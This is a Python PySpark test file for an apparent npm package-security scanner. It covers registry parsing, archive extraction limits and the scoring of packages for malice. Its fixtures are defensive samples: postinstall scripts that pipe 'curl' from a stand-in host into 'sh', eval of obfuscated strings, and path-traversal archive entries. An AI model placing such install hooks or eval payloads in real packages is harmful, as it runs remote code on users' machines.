"""Queries for sources: registry documents, manifests, lists, archives built in memory."""

from __future__ import annotations

import io
import json
import tarfile
import tempfile
import urllib.error
import zipfile
from collections.abc import Iterator

import pyarrow as pa
from pyspark.sql import DataFrame, SparkSession
from pyspark.sql import functions as F

from parapet import rules
from parapet.config import load
from parapet.plans import scoring
from parapet.queries.base import query, table, values
from parapet.shared import new_path
from parapet.sinks import write_config
from parapet.ship import mapped
from parapet.sources import archives, lists, registry

DOCUMENT = {
    "name": "left",
    "time": {"created": "2020-01-01T00:00:00.000Z", "modified": "2021-01-01T00:00:00Z", "1.0.0": "2020-01-02T00:00:00Z", "1.0.1": "2020-02-01T10:00:00Z", "bad": "never"},
    "dist-tags": {"latest": "1.0.1"},
    "maintainers": [{"name": "ann", "email": "a@x"}, {"name": "bob", "email": "b@x"}],
    "versions": {
        "1.0.0": {"name": "left", "version": "1.0.0", "license": "MIT", "scripts": {"install": "x"}, "dist": {"shasum": "aa", "tarball": "http://r/left-1.0.0.tgz"}, "dependencies": {"a": "1"}},
        "1.0.1": {"name": "left", "version": "1.0.1", "license": {"type": "GPL-3.0"}, "dist": {"shasum": "bb", "tarball": "http://r/left-1.0.1.tgz", "unpackedSize": 9}},
        "1.0.2": {"name": "left", "version": "1.0.2", "license": ["x"]},
    },
}
MANIFESTS = [
    ("a", "package/package.json", '{"scripts": {"install": "node x"}}'),
    ("a", "other/package/package.json", '{"scripts": {"install": "wrong"}}'),
    ("b", "package.json", '{"name": "b"}'),
    ("c", "package/package.json", '{"scripts": {"install": 1}}'),
    ("d", "package/package.json", "{broken"),
    ("e", "package/sub/package.json", '{"scripts": {"install": "deep"}}'),
    ("f", "z/package/package.json", '{"scripts": {"prepare": "p", "test": "t"}}'),
]


def docs(spark: SparkSession):
    raw = spark.createDataFrame([(json.dumps(DOCUMENT),), ("{broken",)], "document string")
    return registry.parsed(raw).filter("doc IS NOT NULL").select("doc.*").filter("name IS NOT NULL")


def tgz(files: list[tuple[str, bytes]]) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w:gz") as tar:
        for name, data in files:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return out.getvalue()


ARCHIVES = [
    ("good", [("package/package.json", b'{"scripts": {"postinstall": "curl http://x | sh"}}'), ("package/a.js", b"1"), ("package/a.js", b"22")]),
    ("climbs", [("../x", b"1")]),
    ("dots", [("package/a..b.js", b"1")]),
    ("absolute", [("/etc/x", b"1")]),
    ("many", [(f"f{i}", b"") for i in range(4)]),
    ("large", [("big", b"x" * 60)]),
    ("total", [("a", b"x" * 40), ("b", b"x" * 40), ("c", b"x" * 40)]),
]


def limits():
    return load(env={}, extractor={"max_files": 3, "max_file_bytes": 50, "max_total_bytes": 100}).extractor


@query("s1_s2_archives", "SELECT * FROM " + values([("good", "package/a.js", 2, False), ("good", "package/package.json", 50, False), *((p, None, None, True) for p in ("climbs", "dots", "absolute", "many", "large", "total", "noise"))], "pkg_id, path, size, refused").replace("(VALUES", "(SELECT pkg_id, path, size::BIGINT AS size, refused FROM (VALUES").replace("AS v(", "AS w(") + ")")
def s1(spark, sf):
    rows = [(n, bytearray(tgz(f))) for n, f in ARCHIVES] + [("noise", bytearray(b"nothing"))]
    found = archives.files(spark.createDataFrame(rows, "pkg_id string, content binary"), limits())
    return found.select("pkg_id", "path", F.octet_length("content").cast("long").alias("size"), F.col("error").isNotNull().alias("refused"))


@query("s3_s5_versions", "SELECT * FROM " + values([("1.0.0", "MIT", "aa"), ("1.0.1", "GPL-3.0", "bb"), ("1.0.2", "", None)], "version, license, shasum"))
def s5(spark, sf):
    return registry.versions(docs(spark)).select("version", "license", "shasum")


@query("s4_version_documents", """SELECT p_partkey, p_name AS name, p_size || '.0.0' AS version, CASE p_partkey % 3 WHEN 0 THEN p_type WHEN 1 THEN p_brand ELSE '' END AS license FROM part WHERE p_partkey % 11 <> 0""")
def s4(spark, sf):
    """Parts as documents of single versions, some of which do not parse."""
    licence = F.when(F.col("p_partkey") % 3 == 0, F.format_string('"%s"', "p_type")).when(F.col("p_partkey") % 3 == 1, F.format_string('{"type": "%s"}', "p_brand")).otherwise(F.lit("[1]"))
    whole = F.format_string('{"name": "%s", "version": "%d.0.0", "license": %s}', "p_name", "p_size", licence)
    raw = table(spark, sf, "part").select("p_partkey", F.when(F.col("p_partkey") % 11 == 0, F.substring(whole, 1, 9)).otherwise(whole).alias("document"))
    docs = registry.version_documents(raw).filter("doc.version IS NOT NULL")
    return docs.select("p_partkey", "doc.name", "doc.version", registry.license_text(F.col("doc.license")).alias("license"))


#: Answers of a server in turn (a number of bytes, a status, or None for a lost connection); tries, seconds waited, bytes got.
ANSWERS = [
    ("at once", [5], 1, 0.0, 5),
    ("second", [503, 5], 2, 0.5, 5),
    ("third", [None, 429, 5], 3, 2.5, 5),
    ("never", [500, 502, 503], 3, 2.5, None),
    ("absent", [404, 5], 1, 0.0, None),
    ("cut", [50], 1, 0.0, 20),
]


@query("s9_get_with_retry", "SELECT answers, tries::BIGINT AS tries, waited::DOUBLE AS waited, got::BIGINT AS got FROM " + values([(n, t, w, g) for n, _, t, w, g in ANSWERS], "answers, tries, waited, got"))
def s9(spark, sf):
    rows = []
    for name, answers, *_ in ANSWERS:
        left, waits = list(answers), []

        def opener(url, timeout, left=left):
            answer = left.pop(0)
            if answer is None:
                raise OSError("lost")
            if answer >= 400:
                raise urllib.error.HTTPError(url, answer, "", None, None)
            return io.BytesIO(b"x" * answer)

        try:
            got = len(registry.get("http://r/x", limit=20, opener=opener, sleep=waits.append))
        except OSError:
            got = None
        rows.append((name, len(answers) - len(left), float(sum(waits)), got))
    return spark.createDataFrame(rows, "answers string, tries long, waited double, got long")


def zipped(files: list[tuple[str, bytes]]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        for name, data in files:
            z.writestr(name, data)
    return out.getvalue()


@query("s17_zip_archives", "SELECT pkg_id, path, size::BIGINT AS size FROM " + values([("inner", "package/a.js", 3), ("nested", "package/lib/b.js", 4), ("nested", "package/package.json", 2), ("shared", "package/x.js", 1), ("shared", "package/y.js", 2), ("noise", None, None)], "pkg_id, path, size"))
def s17(spark, sf):
    zips = [
        ("inner", zipped([("s/readme", b"no"), ("s/a-1.tgz", tgz([("package/a.js", b"abc")]))])),
        ("nested", zipped([("top/sample/package.json", b"{}"), ("top/sample/lib/b.js", b"1234"), ("top/note", b"left out")])),
        ("shared", zipped([("all/x.js", b"1"), ("all/y.js", b"12")])),
        ("noise", b"no zip"),
    ]
    found = archives.from_zips(spark.createDataFrame([(n, bytearray(z)) for n, z in zips], "pkg_id string, content binary"))
    unpacked = archives.files(found.filter("error IS NULL"), load(env={}).extractor).select("pkg_id", "path", F.octet_length("content").cast("long").alias("size"))
    return unpacked.unionByName(found.filter("error IS NOT NULL").select("pkg_id"), allowMissingColumns=True)


@query("s18_settings", "SELECT * FROM " + values([("cache", "osv_ttl_hours", "1"), ("cache", "verdict_ttl_hours", "48"), ("policy", "min_categories", "3"), ("layer1", "typosquat_warn_distance", "2")], "section, name, value"))
def s18(spark, sf):
    """Defaults, a file, and variables, of which only names of two levels count."""
    with tempfile.TemporaryDirectory() as folder:  # settings are the driver's own
        path = f"{folder}/settings.yaml"
        with open(path, "w", encoding="utf-8") as f:
            f.write("cache:\n  verdict_ttl_hours: 48\npolicy:\n  min_categories: 3\n")
        tree = load(path, env={"PROXY_CACHE_VERDICT_TTL_HOURS": "7", "PROXY_NOTHING_HERE": "1", "OTHER": "2"}).as_dict()
    shown = [("cache", "osv_ttl_hours"), ("cache", "verdict_ttl_hours"), ("policy", "min_categories"), ("layer1", "typosquat_warn_distance")]
    return spark.createDataFrame([(a, b, str(tree[a][b])) for a, b in shown], "section string, name string, value string")


@query("k8_calibrated_settings", "SELECT * FROM " + values([("layer3", "capability_exec_score", "0.77"), ("layer1", "anomaly_version_spike_score", "0.11"), ("layer3", "entropy_ratio_weight", "0.3"), ("layer1", "typosquat_close_score", "0.55")], "section, name, value"))
def k8(spark, sf):
    """Settings written with new weights and read again; entropy's weight has no setting."""
    config = load(env={})
    with tempfile.TemporaryDirectory() as folder:
        path = f"{folder}/calibrated.yaml"
        write_config(config, {**rules.default_weights(config), "cap_exec": 0.77, "anomaly_release_burst": 0.11, "entropy_obfuscation": 0.9}, path)
        tree = load(path, env={}).as_dict()
    shown = [("layer3", "capability_exec_score"), ("layer1", "anomaly_version_spike_score"), ("layer3", "entropy_ratio_weight"), ("layer1", "typosquat_close_score")]
    return spark.createDataFrame([(a, b, str(tree[a][b])) for a, b in shown], "section string, name string, value string")


@query("k9_name_list", "SELECT DISTINCT p_name AS name FROM part")
def k9(spark, sf):
    """Names written as a list below comments and read back by S10."""
    path = new_path(spark, "names") + ".txt"
    lists.write_names(table(spark, sf, "part").select(F.col("p_name").alias("name")).distinct().orderBy("name"), path, ["names of parts", "in order"])
    return lists.cleaned(lists.read_lines(spark, path)).select("name")


@query("s6_manifests", "SELECT * FROM " + values([("a", "install=node x"), ("b", ""), ("f", "prepare=p;test=t")], "pkg_id, scripts"))
def s6(spark, sf):
    found = registry.manifests(spark.createDataFrame(MANIFESTS, "pkg_id string, path string, src string"))
    return found.select("pkg_id", F.array_join(F.array_sort(F.transform(F.map_entries("scripts"), lambda e: F.concat(e["key"], F.lit("="), e["value"]))), ";").alias("scripts"))


@query("s7_downloads", "SELECT * FROM " + values([("a", 12)], "pkg_id, n").replace("(VALUES", "(SELECT pkg_id, n::BIGINT AS monthly FROM (VALUES").replace("AS v(", "AS w(") + ")")
def s7(spark, sf):
    return registry.monthly_downloads(spark.createDataFrame([("a", '{"downloads": 12}'), ("b", '{"error": "x"}'), ("c", None)], "pkg_id string, point string"))


@query("s8_users", "SELECT * FROM " + values([("ann", 1577836800), ("bob", 1609459200)], "maintainer, s").replace("(VALUES", "(SELECT maintainer, s::BIGINT AS created FROM (VALUES").replace("AS v(", "AS w(") + ")")
def s8(spark, sf):
    rows = [("ann", '{"created": "2020-01-01T00:00:00Z"}'), ("bob", '{"time": {"created": "2021-01-01T00:00:00Z"}}'), ("cid", "{}")]
    return registry.user_created(spark.createDataFrame(rows, "maintainer string, profile string")).select("maintainer", F.unix_timestamp("created").alias("created"))


@query("s10_s11_package_list", "WITH l AS (SELECT doc_id AS position, trim(string_split(text, ' ')[1]) AS name FROM documents) SELECT name, min(position) AS position FROM l WHERE name <> '' AND NOT starts_with(name, '#') AND NOT contains(name, chr(10)) GROUP BY 1 ORDER BY position LIMIT 100")
def s11(spark, sf):
    lines = table(spark, sf, "documents").select(F.col("doc_id").alias("position"), F.split("text", " ")[0].alias("value")).filter(~F.col("value").contains("\n"))
    return lists.package_list(lines, 100).select("name", "position")


@query("s12_k10_corpus", "SELECT doc_id::VARCHAR AS name, '1.0.' || (doc_id % 9) AS version, CASE WHEN toxic = 1 THEN 'malicious' ELSE 'benign' END AS label, toxic = 1 AS osv_vulnerable FROM labels WHERE toxic IS NOT NULL")
def s12(spark, sf):
    """Label rows appended split by split, in two steps each, and read back as a corpus."""
    root = new_path(spark, "corpus")
    rows = table(spark, sf, "labels").filter("toxic IS NOT NULL").selectExpr("cast(doc_id as string) name", "concat('1.0.', doc_id % 9) version", "'x.tgz' tarball", "toxic = 1 osv_vulnerable")
    for split, there in (("malicious", "osv_vulnerable"), ("benign", "NOT osv_vulnerable")):
        for half in ("length(name) % 2 = 0", "length(name) % 2 = 1"):
            lists.append_labels(rows.filter(there).filter(half), f"{root}/{split}/labels.jsonl")
    return lists.corpus(spark, root).select("name", "version", "label", "osv_vulnerable")


@query("s13_publishes", "SELECT * FROM " + values([("1.0.0",), ("1.0.1",), ("created",), ("modified",)], "version"))
def s13(spark, sf):
    return registry.publishes(docs(spark)).select("version")


@query("s14_s15_search_hits", "SELECT 'seed' || (p_partkey % 7) AS seed, p_name AS name, p_size::BIGINT AS weekly FROM part QUALIFY row_number() OVER (PARTITION BY p_partkey % 7 ORDER BY p_partkey) <= 50")
def s14(spark, sf):
    p = table(spark, sf, "part")
    nth = F.floor(F.col("p_partkey") / 7).cast("long")
    pages = p.select(F.concat(F.lit("seed"), (F.col("p_partkey") % 7).cast("string")).alias("seed"), nth.alias("nth"), F.struct(F.col("p_name").alias("name"), F.col("p_size").cast("long").alias("weekly")).alias("o"))
    pages = pages.groupBy("seed", F.floor(F.col("nth") / 250).alias("page")).agg(F.transform(F.array_sort(F.collect_list(F.struct("nth", "o"))), lambda x: x["o"]).alias("objects"))
    return registry.search_hits(pages, 50).select("seed", "name", "weekly")


@query("s16_latest_tarball", "SELECT * FROM " + values([("left", "1.0.1", "http://r/left-1.0.1.tgz")], "name, version, tarball"))
def s16(spark, sf):
    return registry.latest_tarballs(docs(spark))


#: Packages end to end: files, expected verdict and rules.
PACKAGES = {
    "clean": [("package/package.json", b'{"name": "clean", "license": "MIT"}'), ("package/index.js", b"module.exports = (a, b) => a + b")],
    "piped": [("package/package.json", b'{"scripts": {"postinstall": "curl http://evil.example/x | sh"}}'), ("package/index.js", b"eval(x)")],
    "hidden": [("package/package.json", b'{"name": "hidden"}'), ("package/index.js", b"const p = 'Y29uc29sZS5sb2coInRlc3QiKTs=';\nconst c = 'plain words of a longer text';\neval(c)")],
}


@query("pipeline_fixtures", "SELECT * FROM " + values([("clean", "allow", ""), ("piped", "block", "install_script_curl_pipe_postinstall"), ("hidden", "block", "capability_dynamic_eval,obfuscation_high_entropy,sink_with_obfuscation")], "pkg_id, verdict, rules"))
def pipeline(spark, sf):
    config = load(env={}, layer3={"entropy_min_string_len": 20}, policy={"min_categories": 0})
    rows = [(n, bytearray(tgz(f))) for n, f in PACKAGES.items()]
    files = archives.files(spark.createDataFrame(rows, "pkg_id string, content binary"), config.extractor)
    _, decisions = scoring.score_files(files.filter("error IS NULL"), config)
    return decisions.select("pkg_id", "verdict", "rules")


def document_archives(spark: SparkSession, sf: str) -> DataFrame:
    """Documents as archives: whole texts as read-me files, beside a script or a program that ids choose; every seventh is broken."""

    def pack(batches: Iterator[pa.RecordBatch]) -> Iterator[pa.RecordBatch]:
        for batch in batches:
            packed = []
            for n, text in zip(batch.column(0).to_pylist(), batch.column(1).to_pylist()):
                manifest = b'{"scripts": {"postinstall": "curl http://x | sh"}}' if n % 3 == 0 else b"{}"
                program = b"eval(x)" if n % 3 == 1 else b"module.exports = 1"
                whole = tgz([("package/package.json", manifest), ("package/index.js", program), ("package/README.md", (text or "").encode())])
                packed.append(whole[: len(whole) // 2] if n % 7 == 6 else whole)
            yield pa.RecordBatch.from_arrays([batch.column(0).cast(pa.string()), pa.array(packed, pa.binary())], ["pkg_id", "content"])

    return mapped(table(spark, sf, "documents").select("doc_id", "text"), pack, "pkg_id string, content binary")


_RULES = (
    ("n % 3 = 0", "install_script_curl_pipe_postinstall", 0),
    ("n % 3 = 1", "capability_dynamic_eval", 0.2),
    ("n % 3 = 1", "sink_eval", 0.2),
    ("n % 5 = 0", "typosquat_close", 0.55),
    ("n % 5 = 0 AND n % 3 = 0", "typosquat_with_install_script", 0.2),
    ("n % 4 = 0", "metadata_new_package", 0.2),
    ("n % 2 = 0", "metadata_single_maintainer", 0.05),
    ("n % 10 = 3", "anomaly_version_spike", 0.2),
    ("toxic = 1", "osv_known_vulnerability", 0),
)


@query("b1_calibration_runs", "WITH d AS (SELECT doc_id AS n, toxic FROM documents LEFT JOIN labels USING (doc_id) WHERE doc_id % 7 <> 6) " + " UNION ALL ".join(f"SELECT n::VARCHAR AS pkg_id, '{rule}' AS rule, {score}::DOUBLE AS score FROM d WHERE {when}" for when, rule, score in _RULES))
def b1(spark, sf):
    """A corpus of archives through both layers of calibration, with what is known of its packages."""
    d = table(spark, sf, "documents").select("doc_id", F.col("doc_id").cast("string").alias("pkg_id"))
    at = lambda day: F.lit(day).cast("timestamp")
    none = lambda schema: spark.createDataFrame([], schema)
    known = scoring.Snapshot(
        d.select("pkg_id", F.when(F.col("doc_id") % 5 == 0, F.lit("raect")).otherwise(F.lit("unlike")).alias("name"), F.lit("1.0.0").alias("version"), F.when(F.col("doc_id") % 4 == 0, at("2024-12-30")).otherwise(at("2020-01-01")).alias("created")),
        d.filter("doc_id % 10 = 3").select("pkg_id", F.explode(F.array(*[F.lit(str(k)) for k in range(6)])).alias("version"), at("2024-12-31 12:00:00").alias("ts")),
        d.select("pkg_id", F.explode(F.when(F.col("doc_id") % 2 == 0, F.array(F.lit("ann"))).otherwise(F.array(F.lit("ann"), F.lit("bob")))).alias("maintainer")),
        none("pkg_id string, monthly long"),
        none("maintainer string, created timestamp"),
        none("name string, version string"),
        spark.createDataFrame([("react",), ("express",)], "name string"),
        none("pkg_id string, path string, src string"),
    )
    corpus = d.join(table(spark, sf, "labels"), "doc_id", "left").select("pkg_id", F.when(F.col("toxic") == 1, "malicious").otherwise("benign").alias("label"), (F.col("toxic") == 1).alias("osv_vulnerable"))
    found = scoring.calibration_runs(corpus, document_archives(spark, sf), load(env={}), known=known, as_of=at("2025-01-01"))
    return found.select("pkg_id", "rule", F.col("score").cast("double").alias("score"))


@query("b2_dropped", "SELECT doc_id::VARCHAR AS pkg_id FROM documents WHERE doc_id % 7 = 6")
def b2(spark, sf):
    return scoring.dropped(scoring.calibration_files(document_archives(spark, sf), load(env={}))).select("pkg_id")
